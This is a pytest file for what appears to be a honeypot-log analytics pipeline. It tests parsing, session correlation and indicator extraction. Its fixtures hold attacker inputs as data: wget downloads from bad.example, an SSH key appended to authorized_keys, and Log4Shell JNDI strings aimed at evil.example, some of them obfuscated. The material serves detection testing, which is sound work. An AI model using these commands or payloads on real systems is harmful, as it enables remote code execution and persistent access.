import json

from pyspark.sql import functions as F

from hivelens.operators.correlate import bare_scan, correlate
from hivelens.sources.families import FAMILIES, addressed, jndi_events, normalise

SHA = "ab" * 32


def doc(type_, second=0, **more):
    base = {"@timestamp": f"2024-05-01T10:{second // 60:02d}:{second % 60:02d}.000Z", "type": type_, "src_ip": "203.0.114.7", "src_port": 4000, "t-pot_hostname": "hive1", "geoip": {"country_code2": "nl", "asn": 64500, "as_org": "Example"}}
    return base | more


def events(spark, docs):
    lines = [d if isinstance(d, str) else json.dumps(d) for d in docs]
    return normalise(spark.createDataFrame([(x,) for x in lines], "value string").select(F.expr("try_parse_json(value)").alias("doc")).where("doc is not null"))


def test_every_family_is_recognised(spark):
    rows = events(spark, [doc(f.type, alert={"signature": "x"}) for f in FAMILIES] + [doc("Unknown"), doc(None)]).collect()
    assert {r.family for r in rows} == {f.type for f in FAMILIES} | {"fallback"}
    by = {r.family: r for r in rows}
    assert by["Ipphoney"].dst_port == 631 and by["Medpot"].protocol == "hl7" and by["Cowrie"].country == "NL" and by["Cowrie"].asn == 64500


def test_path_recovers_the_family_and_bad_documents_go(spark):
    docs = [doc("x", path="/data/COWRIE/log/a.json"), doc("Cowrie", src_ip=None), {"type": "Cowrie", "src_ip": "1.1.1.1"}, "not json", "[1]", doc("Suricata"), doc("Suricata", alert={"signature": "ET cve-2021-44228 CVE-2021-44228"}), {"type": "zz", "@timestamp": "2024-01-01T00:00:00+05:30"}]
    rows = events(spark, docs).collect()
    assert sorted(r.family for r in rows) == ["Cowrie", "Suricata", "fallback"]
    assert [r.cves for r in rows if r.family == "Suricata"] == [["CVE-2021-44228"]]
    assert [r.ts.isoformat()[11:16] for r in rows if r.family == "fallback"] == ["18:30"]


def test_fields_of_any_type_do_not_fail(spark):
    odd = [doc("Cowrie", session=v, username=v, input=v, shasum=v, dest_port=v, host=v) for v in (None, "", [], {}, 5, "22", True, [1, "a"], {"name": "h"})]
    rows = events(spark, odd).collect()
    assert len(rows) == len(odd) and any(r.dst_port == 22 for r in rows)
    rows = events(spark, [doc("Cowrie", **{"t-pot_hostname": None}, host="text"), doc("Cowrie", **{"t-pot_hostname": None}, host={"name": "h9"})]).collect()
    assert sorted(r.sensor for r in rows) == ["h9", "unknown"]
    rows = events(spark, [{**doc("ElasticPot"), "http.url": "/a"}, {**doc("ElasticPot"), "http": {"url": "/b"}}]).collect()
    assert sorted(r.path for r in rows) == ["/a", "/b"]


def test_shell_session(spark):
    s = {"session": "s1", "dest_port": 22}
    docs = [
        doc("Cowrie", 0, **s, eventid="cowrie.login.failed", username="root", password="a"), doc("Cowrie", 1, **s, eventid="cowrie.login.success", username="root", password="b"),
        doc("Cowrie", 3, **s, eventid="cowrie.command.input", input="wget http://bad.example/x.sh; echo"), doc("Cowrie", 2, **s, eventid="cowrie.command.input", input="uname -a"),
        doc("Cowrie", 4, **s, eventid="cowrie.session.file_download", shasum=SHA.upper(), url="http://bad.example/y"), doc("Cowrie", 5, **s, hassh="h1"), doc("Cowrie", 900, session="s2", dest_port=23),
    ]
    rows = {r.session_key: r for r in correlate(addressed(events(spark, docs))).collect()}
    r = rows["s1"]
    assert r.auth_success and [c.password for c in r.credentials] == ["a", "b"] and r.commands[0] == "uname -a" and r.hashes == [SHA]
    assert set(r.urls) == {"http://bad.example/y", "http://bad.example/x.sh"} and r.hassh == "h1" and r.protocols == ["ssh"] and rows["s2"].protocols == ["telnet"]
    flags = {x.session_key: x.b for x in correlate(events(spark, docs)).withColumn("b", bare_scan(F.col("events"))).select("session_key", "b").collect()}
    assert flags == {"s1": False, "s2": True}


def test_gap_any_and_all_sessions(spark):
    docs = [doc("Honeytrap", t, dest_port=p, attack_connection={"protocol": "tcp", "payload": {"data_hex": "474554"}}) for t, p in ((0, 1), (300, 2), (601, 3))]
    rows = correlate(events(spark, docs)).orderBy("first_seen").collect()
    assert [(r.events, r.ports) for r in rows] == [(2, [1, 2]), (1, [3])] and rows[0].payload == "GET"
    mail = [doc("Mailoney", 0, session_id="m"), doc("Mailoney", 1), doc("Mailoney", 2, session_id="m")]
    assert correlate(events(spark, mail)).count() == 2
    router = [doc("Router", 0, session_id="m"), doc("Router", 1), doc("Router", 2, session_id="m")]
    assert correlate(events(spark, router)).count() == 1


def test_spoofed_sources_and_payloads(spark):
    docs = [doc("H0neytr4p", src_ip="${jndi:ldap://evil.example/a}", request_uri="/"), doc("H0neytr4p", request_uri="/?x=${jndi:rmi://h/${lower:B}}"), doc("Sentrypeer", called_number="+441234567890", sip_method="INVITE"), doc("Sentrypeer", called_number="100")]
    rows = jndi_events(events(spark, docs)).collect()
    assert sorted((x.scheme, x.host) for r in rows for x in r.jndi) == [("ldap", "evil.example"), ("rmi", "h")]
    assert sum(r.src_ip is None for r in rows) == 1 and sorted(r.international for r in rows if r.family == "Sentrypeer") == [False, True]


def test_nodes_and_edges_of_sessions(spark):
    from hivelens.operators.joins import without_dangling
    from hivelens.operators.observables import jndi_nodes, observable_edges, observable_nodes, with_evidence

    key = "ssh-rsa " + "B" * 40
    s = {"session": "s1", "dest_port": 22}
    docs = [
        doc("Cowrie", 0, **s, eventid="cowrie.login.success", username="root", password="b", ip_rep="known attacker"),
        doc("Cowrie", 1, **s, input=f"echo {key} >> ~/.ssh/authorized_keys; wget http://bad.example/x.sh"),
        doc("Cowrie", 2, **s, shasum=SHA, hassh="h1"), doc("Cowrie", 3, **s, input="wget http://nope/x y"),
        doc("Suricata", 4, alert={"signature": "CVE-2021-44228"}), doc("H0neytr4p", 5, request_uri="/${jndi:ldap://evil.example/a}"),
        doc("Fatt", 6, src_ip="203.0.114.8", fatt_tls={"ja3": "j3"}),
    ]
    rows = jndi_events(events(spark, docs))
    sessions = with_evidence(correlate(addressed(rows)))
    nodes, edges = observable_nodes(sessions), observable_edges(sessions)
    kinds = {}
    for r in nodes.collect():
        kinds.setdefault(r.kind, []).append(r)
    assert {k: len(v) for k, v in kinds.items()} == {"address": 2, "indicator": 2, "sensor": 1, "country": 1, "network": 1, "process": 1, "file": 1, "file-indicator": 1, "url": 2, "domain": 2, "vulnerability": 1, "technique": 7, "ssh-key": 1, "fingerprint": 2}
    assert max(r.score for r in kinds["address"]) == 100 and {r.name for r in kinds["domain"]} == {"bad.example", "evil.example"}
    made = edges.collect()
    assert without_dangling(edges, nodes).count() == len(made) == len({r.id for r in made})
    assert {r.kind for r in made} == {"based-on", "located-at", "belongs-to", "indicates", "related-to"}
    assert [(r.group, r.events) for r in jndi_nodes(rows).collect()] == [("evil.example", 1)]


def test_payloads_of_every_top_level_string(spark):
    docs = [
        doc("H0neytr4p", request_uri="/", body="x" * 20_000, **{"user-agent": "${jndi:ldap://agent.example/a}"}, host="${jndi:rmi://host.example/b}"),
        doc("H0neytr4p", request_uri="/" + "${lower:y}" * 2_000, referer="${jndi:dns://referer.example/c}", sni="${${::-j}ndi:ldap://sni.example/d}", header_x="${jndi:ldap://x.example/e}"),
        doc("Suricata", alert={"signature": "a"}, note=" ".join(f"${{jndi:ldap://many{i}.example/}}" for i in range(50))),
    ]
    rows = jndi_events(events(spark, docs)).collect()
    assert {x.host for r in rows for x in r.jndi} == {f"{n}.example" for n in ["agent", "host", "referer", "sni", "x", *(f"many{i}" for i in range(50))]}


def session_of(spark, docs):
    return correlate(events(spark, docs)).first()


def test_industrial_sessions(spark):
    s = {"id": "c1", "data_type": "modbus"}
    docs = [doc("ConPot", t, **s, request=x) for t, x in enumerate(["000700000006010300000002", "000700000006010300000002", "000700000006010600010002", None])]
    r = session_of(spark, docs)
    assert r.requests == ["000700000006010300000002", "000700000006010600010002"] and r.ics.tier == "write" and r.ics.write and r.ics.valid_protocols == ["modbus"]
    many = [doc("ConPot", t, id="c2", data_type="http", request=f"GET /{t}") for t in range(30)]
    r = session_of(spark, many)
    assert r.requests == [f"GET /{t}" for t in range(20)] and r.ics.industrial_tier is None and not r.ics.write
    assert session_of(spark, [doc("Cowrie", session="x")]).ics is None
    r = session_of(spark, [doc("ConPot", id="c3", data_type="kamstrup_management_protocol", request="!SC 1")])
    assert r.protocols == ["kamstrup-management"] and r.ics.tier == "write"


def test_mail_and_desktop_sessions(spark):
    docs = [doc("Mailoney", 0, session_id="m", commands=["ehlo x", "mail from:<a>"], data="12345", auth_user="u", auth_pass="p"), doc("Mailoney", 1, session_id="m", commands="RCPT to", data="é", auth_user="u", auth_pass="p"), doc("Mailoney", 2, session_id="m", commands=5, auth_user="u")]
    r = session_of(spark, docs)
    assert r.requests == ["EHLO", "MAIL", "RCPT"] and r.commands == [] and r.mail_bytes == 6 and [tuple(c) for c in r.credentials] == [("u", "p")]
    blob = bytes(44) + b"\x09\x00\x04\x00" + "ab".encode("utf-16le") + bytes(4)
    docs = [doc("RDPHoneypot", 0, session="d", username=" eve ", nt_response=blob.hex(), domain="", derived_domain="CORP", message="username: 'eve', hashcat: 'eve::CORP:11:22:33'."), doc("RDPHoneypot", 1, session="d", nt_response="zz")]
    r = session_of(spark, docs)
    assert [(x.target, x.username, x.domain, x.line, x.method) for x in r.ntlm] == [("ab", "eve", "CORP", "eve::CORP:11:22:33", "unknown"), (None, None, None, None, "unknown")]


def test_web_sessions_and_first_fingerprints(spark):
    r = session_of(spark, [doc("H0neytr4p", http_host="a.example:8443", request_uri="x?y", dest_port=8443, body="${jndi:ldap://c.example/z}")])
    assert r.request_urls == ["https://a.example:8443/x?y"] and r.request_hosts == ["a.example"] and [x.host for x in r.jndi] == ["c.example"] and r.urls == []
    assert session_of(spark, [doc("H0neytr4p", http_host="1.2.3.4", request_uri="/")]).request_hosts == []
    assert session_of(spark, [doc("H0neytr4p", request_uri="http://b.example/")]).request_urls == ["http://b.example/"]
    r = session_of(spark, [doc("Galah", method="POST", body="user=a&pass=b&pwd=c"), ])
    assert [tuple(c) for c in r.credentials] == [("a", "b"), ("a", "c")]
    r = session_of(spark, [doc("Fatt", 0), doc("Fatt", 1, fatt_tls={"ja3": "one", "ja3s": "s1"}), doc("Fatt", 2, fatt_tls={"ja3": "two"})])
    assert (r.ja3, r.ja3s) == ("one", "s1")
